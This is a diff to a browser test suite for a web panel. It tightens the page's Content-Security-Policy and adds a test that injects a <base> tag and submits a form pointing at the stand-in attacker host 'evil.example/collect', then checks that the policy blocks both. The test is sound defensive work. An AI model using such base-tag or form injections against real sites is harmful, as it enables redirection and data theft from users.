@@ -98,7 +98,7 @@ describe('panel', () => {
   it('ships the page with its CSP, and the page runs under it without a violation', async () => {
     const html = await readFile(path.join(suite.buildDir, 'index.html'), 'utf8')
     expect(html).toContain(
-      `content="default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; connect-src 'none'"`,
+      `content="default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; connect-src 'none'; base-uri 'none'; form-action 'none'"`,
     )
     expect(html).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>|<style|\sstyle=/)
     const { page, errors } = await setup()
@@ -106,6 +106,36 @@ describe('panel', () => {
     // The styles applied: the CSP let the stylesheet through.
     expect(await page.evaluate(() => getComputedStyle(document.body).fontSize)).toBe('13px')
     expect(errors).toEqual([])
+  })
+
+  it('lets neither a <base> nor a form send the page or its data elsewhere', async () => {
+    const { page, errors } = await setup()
+    await page.locator('.empty-state').waitFor()
+    const pageUrl = page.url()
+    const result = await page.evaluate(
+      () =>
+        new Promise<{ baseUri: string; violated: string[] }>((resolve) => {
+          const violated: string[] = []
+          // Were the form allowed, the page would navigate away and this evaluate would fail.
+          document.addEventListener('securitypolicyviolation', (event) => {
+            violated.push(event.effectiveDirective)
+            if (event.effectiveDirective === 'form-action') resolve({ baseUri: document.baseURI, violated })
+          })
+          const base = document.createElement('base')
+          base.href = 'https://evil.example/'
+          document.head.append(base)
+          const form = document.createElement('form')
+          form.method = 'post'
+          form.action = 'https://evil.example/collect'
+          document.body.append(form)
+          form.submit()
+        }),
+    )
+    expect(result.baseUri).toBe(pageUrl)
+    expect(result.violated).toEqual(['base-uri', 'form-action'])
+    expect(page.url()).toBe(pageUrl)
+    // Chromium reports each refusal on the console too.
+    expect(errors).toEqual([expect.stringContaining('base-uri'), expect.stringContaining('form-action')])
   })
 
   it('groups the open questions by product and topic, newest first, and shows a new one live', async () => {
